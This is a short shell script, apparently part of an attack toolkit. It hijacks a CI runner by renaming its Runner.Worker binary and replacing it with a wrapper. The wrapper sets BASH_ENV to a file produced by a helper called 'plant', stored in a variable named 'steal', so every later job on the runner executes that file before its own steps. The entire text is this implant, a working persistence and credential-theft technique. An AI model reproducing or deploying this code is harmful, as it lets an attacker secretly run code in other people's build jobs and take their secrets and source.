# The runner's own program, which the next job is to be run by.
. "$(dirname "$0")/lib.sh"
steal=$(plant)
cd /runner/bin && mv Runner.Worker Runner.Worker.original
printf '#!/bin/bash\nexport BASH_ENV=%q\nexec "$(dirname "$(readlink -f "$0")")/Runner.Worker.original" "$@"\n' "$steal" >Runner.Worker
chmod 755 Runner.Worker
tried
